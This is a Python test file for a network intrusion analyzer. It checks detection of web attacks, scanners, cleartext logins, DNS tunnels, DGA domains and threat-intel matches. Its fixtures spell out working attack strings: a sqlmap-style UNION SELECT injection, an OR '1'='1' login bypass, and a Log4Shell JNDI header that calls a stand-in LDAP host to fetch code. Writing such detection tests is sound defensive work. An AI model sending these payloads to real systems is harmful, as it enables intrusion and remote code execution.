"""keepwatch net analyze reading protocol contents: web attacks in HTTP requests (whole, split
across segments, out of order), scanner fingerprints, plain-text logins, DNS tunnels and DGA
names, threat-intelligence lists, a team's own Suricata rules; and ordinary traffic that must
raise nothing. Captures are built by pcapgen.py."""
import json
import os
import tempfile
import unittest

from kwtest import run
from pcapgen import Pcap, dns_query

ATTACKER, SERVER, CLIENT = "203.0.113.66", "10.0.0.80", "10.0.0.7"


def get(report, action):
    return [d for d in report if d["event"]["action"] == action]


class ContentTest(unittest.TestCase):
    def setUp(self):
        self.dir = tempfile.TemporaryDirectory()

    def tearDown(self):
        self.dir.cleanup()

    def analyze(self, pcap, config=None):
        path = os.path.join(self.dir.name, "c.pcap")
        pcap.write(path)
        args = ["net", "analyze", "--json", path]
        if config is not None:
            cpath = os.path.join(self.dir.name, "c.yaml")
            with open(cpath, "w") as f:
                f.write(config)
            args[2:2] = ["-c", cpath]
        rc, out, err = run(*args)
        self.assertIn(rc, (0, 1), err)
        return [json.loads(l) for l in out.splitlines()], err

    def benign(self, p):
        p.session(CLIENT, 40001, SERVER, 80, [
            b"GET /search?q=%22select+a+gift%22+union+station HTTP/1.1\r\nHost: www.example.cn\r\n"
            b"User-Agent: Mozilla/5.0 (Windows NT 10.0; Win64; x64)\r\nCookie: session=8f2a; lang=zh-CN\r\n\r\n",
            b"POST /api/v1/orders HTTP/1.1\r\nHost: www.example.cn\r\nContent-Type: application/json\r\n"
            b"Content-Length: 42\r\n\r\n{\"item\":\"tea\",\"qty\":2,\"note\":\"for dad\"}",
            b"GET /wp-admin/edit.php?post_type=page HTTP/1.1\r\nHost: www.example.cn\r\n\r\n"])
        for i, name in enumerate(["www.baidu.com", "g.alicdn.com", "www.google.com", "mirrors.tuna.tsinghua.edu.cn",
                                  "_dmarc.example.cn", "4.3.2.1.in-addr.arpa"]):
            p.udp(CLIENT, 33000 + i, "10.0.0.53", 53, dns_query(i, name))

    def test_ordinary_traffic_raises_nothing(self):
        p = Pcap()
        self.benign(p)
        report, err = self.analyze(p)
        self.assertEqual(report, [], err)

    def test_sql_injection_and_scanner_one_alert_per_rule(self):
        p = Pcap()
        self.benign(p)
        reqs = [b"GET /item.php?id=%d%%27%%20union%%20select%%201,user(),3--%%20- HTTP/1.1\r\nHost: shop.example\r\n"
                b"User-Agent: sqlmap/1.7.2#stable (https://sqlmap.org)\r\n\r\n" % i for i in range(20)]
        p.session(ATTACKER, 40002, SERVER, 80, reqs)
        report, _ = self.analyze(p)
        web = get(report, "web_attack")
        cats = sorted(d["rule"]["category"] for d in web)
        self.assertEqual(cats, ["scanner", "sqli"], json.dumps(web, indent=1))
        sqli = [d for d in web if d["rule"]["category"] == "sqli"][0]
        self.assertEqual(sqli["source"]["ip"], ATTACKER)
        self.assertEqual(sqli["destination"]["ip"], SERVER)
        self.assertEqual(sqli["destination"]["port"], 80)
        self.assertEqual(sqli["threat"]["technique"]["id"], "T1190")
        self.assertEqual(sqli["keepwatch"]["net"]["hits"], 20)
        self.assertIn("union%20select", sqli["keepwatch"]["net"]["evidence"])
        self.assertEqual(sqli["destination"]["domain"], "shop.example")

    def test_form_body_is_read_decoded(self):
        body = b"username=admin%27%20OR%20%271%27%3D%271&password=x"
        p = Pcap()
        p.session(ATTACKER, 40005, SERVER, 80, [b"POST /login.php HTTP/1.1\r\nHost: shop\r\n"
                                                b"Content-Type: application/x-www-form-urlencoded\r\n"
                                                b"Content-Length: %d\r\n\r\n" % len(body) + body])
        report, _ = self.analyze(p)
        self.assertEqual({d["rule"]["category"] for d in get(report, "web_attack")}, {"sqli"}, report)

    def test_log4shell_split_out_of_order(self):
        """The request arrives in three segments, the last first: reassembled before reading."""
        req = b"GET / HTTP/1.1\r\nHost: app\r\nX-Api-Version: ${jndi:ldap://198.51.100.9:1389/Exploit}\r\n\r\n"
        p = Pcap()
        c, s, cs, ss = ATTACKER, SERVER, 1001, 5001
        p.tcp(c, 41000, s, 8080, 0x02, cs - 1)
        p.tcp(s, 8080, c, 41000, 0x12, ss - 1, cs)
        p.tcp(c, 41000, s, 8080, 0x10, cs, ss)
        parts = [(0, req[:20]), (20, req[20:45]), (45, req[45:])]
        for off, data in (parts[2], parts[0], parts[1]):
            p.tcp(c, 41000, s, 8080, 0x18, cs + off, ss, data)
        p.tcp(c, 41000, s, 8080, 0x11, cs + len(req), ss)
        report, _ = self.analyze(p)
        web = get(report, "web_attack")
        self.assertTrue(web, report)
        self.assertEqual({d["rule"]["category"] for d in web}, {"log4shell"})
        self.assertEqual(web[0]["event"]["severity"], 4)
        self.assertEqual(web[0]["destination"]["port"], 8080)

    def test_cleartext_logins(self):
        p = Pcap()
        p.session(CLIENT, 40010, SERVER, 21, [b"USER alice\r\n", b"PASS s3cret\r\n", b"QUIT\r\n"])
        p.session(CLIENT, 40011, SERVER, 80, [b"GET /admin HTTP/1.1\r\nHost: nas\r\n"
                                              b"Authorization: Basic YWxpY2U6czNjcmV0\r\n\r\n"])
        report, _ = self.analyze(p)
        clear = get(report, "cleartext_credentials")
        self.assertEqual(sorted(d["network"]["protocol"] for d in clear), ["ftp", "http"])
        for d in clear:
            self.assertEqual(d["event"]["severity"], 1)
            self.assertNotIn("s3cret", json.dumps(d))

    def test_dns_tunnel_and_dga(self):
        p = Pcap()
        self.benign(p)
        for i in range(30):  # dnscat2-style: hex payloads under one domain, TXT answers
            label = "%032x" % (0x5a17c0ffee * (i + 1) ** 3)
            p.udp("10.0.0.9", 30000 + i, "10.0.0.53", 53, dns_query(100 + i, label + ".c2.tunnel.example", 16))
        for i, name in enumerate(["xjqzvkwplrtbn.com", "qpwmzvxkrtlhy.net", "bvzqxwkjtrmpl.org", "kzxqwvbnrtjpm.info",
                                  "wqzxvkjpltrbm.biz", "zxqkvwjtpmlrb.com", "jqxzwvkrtplmb.net"]):
            p.udp("10.0.0.10", 31000 + i, "10.0.0.53", 53, dns_query(200 + i, name))
        report, _ = self.analyze(p)
        tun = get(report, "dns_tunnel")
        self.assertEqual(len(tun), 1, report)
        self.assertEqual(tun[0]["source"]["ip"], "10.0.0.9")
        self.assertEqual(tun[0]["dns"]["question"]["name"], "tunnel.example")
        dga = get(report, "dga_domain")
        self.assertEqual(len(dga), 1, report)
        self.assertEqual(dga[0]["source"]["ip"], "10.0.0.10")
        self.assertEqual(len(report), 2, report)

    def test_intel_lists(self):
        ips = os.path.join(self.dir.name, "ips.txt")
        doms = os.path.join(self.dir.name, "doms.txt")
        with open(ips, "w") as f:
            f.write("# a C2 list\n%s\n" % ATTACKER)
        with open(doms, "w") as f:
            f.write("evil.example\n")
        p = Pcap()
        self.benign(p)
        p.session(ATTACKER, 40020, SERVER, 443, [b"\x16\x03\x01\x00\x05hello"])
        p.udp(CLIENT, 34000, "10.0.0.53", 53, dns_query(9, "cdn.evil.example"))
        cfg = "intel:\n  files:\n    - {path: %s, name: c2, severity: high}\n    - %s\n" % (ips, doms)
        report, _ = self.analyze(p, cfg)
        hits = get(report, "intel_match")
        by = {d["rule"]["name"]: d for d in hits}
        self.assertEqual(set(by), {"c2", "doms"}, report)
        self.assertEqual(by["c2"]["source"]["ip"], ATTACKER)
        self.assertEqual(by["c2"]["event"]["severity"], 3)
        self.assertEqual(by["doms"]["dns"]["question"]["name"], "cdn.evil.example")
        self.assertEqual(len(hits), 2, hits)

    def test_own_rules_and_switching_inspection_off(self):
        rules = os.path.join(self.dir.name, "local.rules")
        with open(rules, "w") as f:
            f.write('alert http any any -> $HOME_NET any (msg:"LOCAL admin page from outside"; '
                    'flow:established,to_server; http.uri; content:"/secret-admin"; nocase; '
                    'classtype:policy-violation; sid:1000001; rev:1;)\n'
                    'alert tcp any any -> any any (msg:"LOCAL unsupported"; byte_test:1,>,2,0; sid:1000002;)\n')
        p = Pcap()
        p.session(ATTACKER, 40030, SERVER, 80, [b"GET /Secret-Admin/ HTTP/1.1\r\nHost: intranet\r\n\r\n"])
        cfg = "net:\n  inspect:\n    rules: [%s]\n    home_net: [10.0.0.0/8]\n" % rules
        report, err = self.analyze(p, cfg)
        self.assertIn("1 of 161 rules skipped", err)
        own = [d for d in report if d["rule"]["id"] == "1000001"]
        self.assertEqual(len(own), 1, report)
        self.assertEqual(own[0]["event"]["action"], "web_attack")
        self.assertEqual(own[0]["rule"]["name"], "LOCAL admin page from outside")
        report, _ = self.analyze(p, cfg + "    enabled: false\n")
        self.assertEqual(report, [])


if __name__ == "__main__":
    unittest.main()
